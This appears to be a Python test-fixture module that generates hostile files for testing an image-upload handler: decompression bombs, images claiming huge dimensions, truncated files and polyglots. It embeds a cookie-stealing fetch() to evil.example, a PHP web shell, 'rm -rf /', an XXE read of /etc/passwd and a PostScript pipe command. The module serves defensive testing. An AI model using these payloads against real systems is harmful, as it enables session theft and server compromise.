"""A hundred files that somebody with bad intentions sends where a picture is asked for.

`hostile_files()` gives {name: bytes}. They are small (below 2 MB each): what is large is what
they unfold to, or claim to be.
"""

import bz2
import gzip
import io
import json
import lzma
import pickle
import random
import struct
import zipfile
import zlib

from PIL import Image

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
PHP = b"<?php system($_GET['c']); ?>"
PNG = b"\x89PNG\r\n\x1a\n"


def hostile_files() -> dict[str, bytes]:
    parts = (others(), drawings(), encodings(), truncated(), broken(), huge(), bombs(), polyglots())
    found: dict[str, bytes] = {}
    for part in parts:
        assert not set(part) & set(found)
        found |= part
    return found


def picture(kind="PNG", mode="RGB", size=(64, 48), **options) -> bytes:
    """A harmless one of this format, with enough in it to be cut."""
    noise = random.Random(7).randbytes(size[0] * size[1] * 3)
    buffer = io.BytesIO()
    Image.frombytes("RGB", size, noise).convert(mode).save(buffer, kind, **options)
    return buffer.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height, *, depth=8, colour=2, extra=b"", body=b"\0" * 100) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return PNG + head + extra + chunk(b"IDAT", zlib.compress(body, 9)) + chunk(b"IEND", b"")


def zeros(millions: int) -> bytes:
    """Compressed zeros that unfold to so many million bytes."""
    packer = zlib.compressobj(9)
    one = b"\0" * 1_000_000
    return b"".join([*(packer.compress(one) for _ in range(millions)), packer.flush()])


# --- no pictures at all -----------------------------------------------------------------------


def others() -> dict[str, bytes]:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as inside:
        inside.writestr("word/document.xml", "<w/>")
    return {
        "empty": b"",
        "one byte": b"\xff",
        "nul bytes": b"\0" * 5000,
        "noise": random.Random(1).randbytes(5000),
        "text": b"I am no picture. " * 50,
        "json": json.dumps({"image": "data:image/png;base64,AAAA"}).encode(),
        "html": b"<!doctype html><html><body>" + SCRIPT,
        "php": PHP,
        "shell script": b"#!/bin/sh\nrm -rf /\n",
        "pickle": pickle.dumps({"a": [1, 2, 3]}),
        "pdf": b"%PDF-1.7\n1 0 obj\n<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\nendobj",
        "zip": archive.getvalue(),
        "gzip": gzip.compress(b"\0" * 100_000),
        "bzip2": bz2.compress(b"\0" * 100_000),
        "xz": lzma.compress(b"\0" * 100_000),
        "rar": b"Rar!\x1a\x07\x01\0" + b"\0" * 200,
        "7z": b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 200,
        "windows program": b"MZ\x90\0\3\0\0\0" + b"\0" * 500 + b"PE\0\0",
        "linux program": b"\x7fELF\2\1\1" + b"\0" * 500,
        "java class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 200,
        "font": b"wOF2\0\1\0\0" + b"\0" * 200,
        "mp3": b"ID3\4\0\0\0\0\0\0" + b"\xff\xfb\x90\x64" * 100,
        "mp4": b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 300,
        "webm": b"\x1a\x45\xdf\xa3" + b"\0" * 300,
        "wav": b"RIFF\x24\1\0\0WAVEfmt " + b"\0" * 300,
        "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 300,
        "photoshop": b"8BPS\0\1" + b"\0" * 300,
    }


def drawings() -> dict[str, bytes]:
    head = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"'
    laughs = b'<!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    outside = b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return {
        "svg": head + b"><rect width='9' height='9'/></svg>",
        "svg with script": head + b">" + SCRIPT + b"</svg>",
        "svg with onload": head + b' onload="alert(1)"/>',
        "svg with foreign html": head
        + b"><foreignObject><iframe src='//e'/></foreignObject></svg>",
        "svg with entities": b"<?xml version='1.0'?>" + laughs + head + b">&b;</svg>",
        "svg that reads files": b"<?xml version='1.0'?>" + outside + head + b">&x;</svg>",
        "svg behind a bom": b"\xef\xbb\xbf\n\n" + head + b">" + SCRIPT + b"</svg>",
        "svgz": gzip.compress(head + b">" + SCRIPT + b"</svg>"),
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (w) file\n",
    }


def encodings() -> dict[str, bytes]:
    """True pictures, of formats whose decoders stay shut."""
    formats = ["BMP", "TIFF", "PPM", "TGA", "PCX", "SGI", "ICO", "ICNS", "JPEG2000", "AVIF", "DDS"]
    return {f"a {name} picture": picture(name) for name in formats}


# --- pictures that are not whole ----------------------------------------------------------------


def truncated() -> dict[str, bytes]:
    whole = {
        "jpeg": picture("JPEG"),
        "progressive jpeg": picture("JPEG", progressive=True),
        "png": picture("PNG"),
        "webp": picture("WEBP", lossless=True),
        "gif": picture("GIF", mode="P"),
    }
    return {
        f"{name} cut at {part}%": data[: len(data) * part // 100]
        for name, data in whole.items()
        for part in (3, 50, 90)
    }


def broken() -> dict[str, bytes]:
    good = picture("PNG")
    jpeg = bytearray(picture("JPEG"))
    sof = jpeg.index(b"\xff\xc0")
    no_height = bytes(jpeg[: sof + 5]) + b"\0\0" + bytes(jpeg[sof + 7 :])
    no_tables = bytes(jpeg).replace(b"\xff\xdb", b"\xff\xfe")
    webp = picture("WEBP")
    return {
        "png with a wrong checksum": good[:29] + b"\0\0\0\0" + good[33:],
        "png without pixels": PNG + good[8:33] + chunk(b"IEND", b""),
        "png of no width": png(0, 50),
        "png with rubbish for pixels": PNG + good[8:33] + chunk(b"IDAT", b"rubbish" * 50),
        "png of an unknown kind": png(50, 50, depth=5, colour=9),
        "png head alone": PNG,
        "jpeg start alone": b"\xff\xd8\xff\xe0",
        "jpeg of no height": no_height,
        "jpeg without tables": no_tables,
        "gif head alone": b"GIF89a",
        "gif of no size": b"GIF89a\0\0\0\0\0\0\0;",
        "webp head alone": b"RIFF\xff\xff\xff\x7fWEBPVP8 ",
        "webp with rubbish inside": webp[:20] + b"\xaa" * (len(webp) - 20),
    }


# --- small files, large pictures -----------------------------------------------------------------


def huge() -> dict[str, bytes]:
    jpeg = bytearray(picture("JPEG"))
    sof = jpeg.index(b"\xff\xc0") + 5
    progressive = bytearray(picture("JPEG", progressive=True))
    psof = progressive.index(b"\xff\xc2") + 5

    def claiming(data, place, height, width):
        return bytes(data[:place]) + struct.pack(">HH", height, width) + bytes(data[place + 4 :])

    canvas = (b"\x0a\0\0\0\x10\0\0\0" + b"\xff" * 6)[4:]
    return {
        "png claiming 100000 x 100000": png(100_000, 100_000),
        "png claiming 2^31 - 1": png(2**31 - 1, 2**31 - 1),
        "png claiming 30000 x 30000 of 1 bit": png(30_000, 30_000, depth=1, colour=0),
        "png claiming 8000 x 8000 of 16 bits": png(8000, 8000, depth=16, colour=6),
        "png claiming 5000 x 5000": png(5000, 5000),
        "png of one pixel by a million": png(1_000_000, 1, depth=1, colour=0),
        "png of 20 by 15000": png(15_000, 20),
        "jpeg claiming 65500 x 65500": claiming(jpeg, sof, 65_500, 65_500),
        "jpeg claiming 1 x 65500": claiming(jpeg, sof, 65_500, 1),
        "jpeg claiming 17000 x 2000": claiming(jpeg, sof, 17_000, 2000),
        "progressive jpeg claiming 6000 x 5000": claiming(progressive, psof, 6000, 5000),
        "gif claiming 65535 x 65535": b"GIF89a\xff\xff\xff\xff" + picture("GIF", mode="P")[10:],
        "gif with a frame beyond its canvas": gif_frame(65_535, 65_535),
        "webp claiming 16777216 x 16777216": b"RIFF\x1a\0\0\0WEBPVP8X\x0a\0\0\0"
        + canvas
        + b"\0" * 4,
        "webp claiming 16384 x 16384": webp_lossless(16_384, 16_384),
    }


def gif_frame(width, height) -> bytes:
    head = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff"
    return head + b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\2\2\x44\1\0;"


def webp_lossless(width, height) -> bytes:
    bits = struct.pack("<I", (width - 1) | (height - 1) << 14)
    body = b"\x2f" + bits + b"\0" * 40
    data = b"WEBPVP8L" + struct.pack("<I", len(body)) + body + b"\0"
    return b"RIFF" + struct.pack("<I", len(data)) + data


def bombs() -> dict[str, bytes]:
    unfolding = zeros(100)
    profile = chunk(b"iCCP", b"bomb\0\0" + unfolding)
    notes = b"".join(chunk(b"zTXt", b"note%d\0\0" % n + zeros(2)) for n in range(60))
    bits = chunk(b"IHDR", struct.pack(">IIBBBBB", 28_000, 28_000, 1, 0, 0, 0, 0))
    frames = [Image.new("RGB", (120, 90), (n % 255, n, 9)) for n in range(300)]
    scans = picture("JPEG", progressive=True)
    last = scans.rindex(b"\xff\xda")
    return {
        "png that unfolds to 100 MB": PNG + bits + chunk(b"IDAT", unfolding) + chunk(b"IEND", b""),
        "png with notes of 120 MB": png(50, 50, extra=notes, body=b"\0" * 151 * 50),
        "png whose pixels are fewer than 100 MB of profile": png(50, 50, extra=profile),
        "gif of 300 frames": moving("GIF", frames),
        "webp of 60 frames": moving("WEBP", frames[:60]),
        "png of 40 frames": moving("PNG", frames[:40]),
        "gif of two frames": moving("GIF", frames[:2]),
        "jpeg of 5000 scans": scans[:last] + scans[last:-2] * 5000 + b"\xff\xd9",
        "a file of 16 MB": b"\xff\xd8\xff\xe0" + b"\0" * (15 * 1024 * 1024),
    }


def moving(kind, frames) -> bytes:
    buffer = io.BytesIO()
    frames[0].save(buffer, kind, save_all=True, append_images=frames[1:], duration=20)
    return buffer.getvalue()


# --- pictures that are something else as well ----------------------------------------------------


def polyglots() -> dict[str, bytes]:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as inside:
        inside.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil")
    exif = Image.Exif()
    exif[0x010E] = SCRIPT.decode()
    return {
        "gif and page": picture("GIF", mode="P") + SCRIPT,
        "gif and php": picture("GIF", mode="P", comment=PHP),
        "gif and archive": picture("GIF", mode="P") + archive.getvalue(),
        "jpeg and php": picture("JPEG", comment=PHP),
        "jpeg and archive": picture("JPEG") + archive.getvalue(),
        "jpeg and page": picture("JPEG") + b"\n<!DOCTYPE HTML><body onload=alert(1)>",
        "jpeg and pdf": picture("JPEG", comment=b"%PDF-1.4\n1 0 obj"),
        "jpeg with a script in its notes": picture("JPEG", exif=exif),
        "png and page": picture("PNG") + SCRIPT.upper(),
        "png and archive": picture("PNG") + archive.getvalue(),
        "png with php in its notes": png(9, 9, extra=chunk(b"tEXt", b"Comment\0" + PHP)),
        "webp and page": picture("WEBP") + SCRIPT,
    }


def largest(name: str) -> bytes:
    """A true picture that is just within the bounds of its format."""
    sizes = {"jpeg": (7300, 5470), "progressive jpeg": (6000, 4000), "png": (6000, 4000)}
    width, height = sizes.get(name, (4000, 4000))
    made = Image.new("P" if name == "gif" else "RGB", (width, height), 90)
    made.paste(5 if name == "gif" else (9, 200, 9), (0, 0, width // 2, height // 2))
    buffer = io.BytesIO()
    kinds = {"jpeg": "JPEG", "progressive jpeg": "JPEG", "png": "PNG", "webp": "WEBP"}
    options = {"progressive jpeg": {"progressive": True, "subsampling": 0}}
    options["webp"] = {"lossless": True, "quality": 0, "method": 0}
    made.save(buffer, kinds.get(name, "GIF"), **options.get(name, {}))
    return buffer.getvalue()
